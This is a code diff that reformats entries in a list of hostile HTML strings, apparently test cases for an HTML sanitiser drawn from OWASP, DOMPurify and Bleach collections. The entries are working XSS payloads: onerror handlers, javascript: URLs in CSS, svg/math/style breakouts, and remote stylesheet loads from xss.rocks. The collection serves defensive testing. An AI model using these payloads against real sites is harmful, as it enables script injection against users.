@@ -209,7 +209,11 @@ HOSTILE = [
     ("style-attr-behavior", '<XSS STYLE="behavior: url(xss.htc);">x</XSS>', OWASP),
     ("style-attr-behavior-time2", '<x style="behavior:url(#default#time2)" onbegin="alert(1)">x</x>', HTML5SEC),
     ("style-attr-on-allowed-tag", '<p style="background:url(javascript:alert(1))">x</p>', BLEACH),
-    ("style-tag-list-style-image", "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>", OWASP),
+    (
+        "style-tag-list-style-image",
+        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
+        OWASP,
+    ),
     ("style-tag-import", "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>", OWASP),
     ("style-tag-moz-binding", '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>', OWASP),
     (
@@ -245,7 +249,11 @@ HOSTILE = [
     ("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>", DOMPURIFY),
     ("svg-p-style-breakout", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", DOMPURIFY),
     ("svg-p-style-unclosed", "<svg><p><style><img src=x onerror=alert(1)>", DOMPURIFY),
-    ("svg-foreignobject-style", '<svg><foreignObject><style><img title="</style><img src=x onerror=alert(1)>">', DOMPURIFY),
+    (
+        "svg-foreignobject-style",
+        '<svg><foreignObject><style><img title="</style><img src=x onerror=alert(1)>">',
+        DOMPURIFY,
+    ),
     ("math-style-img", "<math><style><img src=x onerror=alert(1)></style></math>", DOMPURIFY),
     ("math-mtext-table-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", DOMPURIFY),
     (
